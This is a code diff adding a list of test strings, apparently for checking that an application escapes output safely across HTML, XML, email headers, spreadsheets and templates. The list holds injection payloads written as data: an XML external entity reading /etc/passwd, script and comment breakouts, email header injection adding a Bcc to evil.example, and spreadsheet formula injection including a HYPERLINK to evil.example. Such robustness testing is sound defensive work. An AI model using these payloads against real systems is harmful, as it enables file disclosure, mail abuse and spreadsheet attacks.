@@ -55,3 +55,38 @@ export const hostileTexts = (visible: string): string[] => {
   }
   return texts;
 };
+
+/** Visible texts that end a string, an element, a cell or a header of some format, or begin a formula or markup. */
+export const breakingTexts: readonly string[] = [
+  '</script><b>سارة</b>',
+  '</title></textarea></style>',
+  '<!-- سارة',
+  '<!--<script>',
+  '--> ]]> سارة',
+  '<![CDATA[سارة',
+  '<?xml version="1.1"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;',
+  '" onload="x" \' onload=\'x',
+  '&amp; & &#11; &#x0; &lt;',
+  'سارة\r\nBcc: everybody@evil.example\r\n\r\nنص',
+  'سارة\nX-Header: 1',
+  'سارة" <a@evil.example>, b@evil.example',
+  '=?utf-8?B?QmNjOiBhQGV2aWwuZXhhbXBsZQ==?=',
+  '=1+1',
+  "'=1+1",
+  '+1',
+  '-1',
+  '@SUM(A1)',
+  '\t=1+1',
+  '=HYPERLINK("https://evil.example";"سارة")',
+  '\uFF1D1+1',
+  'سارة\u2028أحمد\u2029علي',
+  '\\u0000 \\ud800 \\',
+  '\\" \\n \\r',
+  '%0D%0A%00 %',
+  '{{x}} ${x} #set page(width: 1pt) $x$ <label> @ref *b* _i_ //',
+  '.\r\n.\r\nQUIT',
+  'Ελλάδα Привет שלום 漢字 ½ → ① \uFFFD ﷺ',
+  'طويل '.repeat(400).trim(),
+  'ط'.repeat(1200),
+  '\u{1F468}\u200D\u{1F469}\u200D\u{1F467} \u2764\uFE0F',
+];
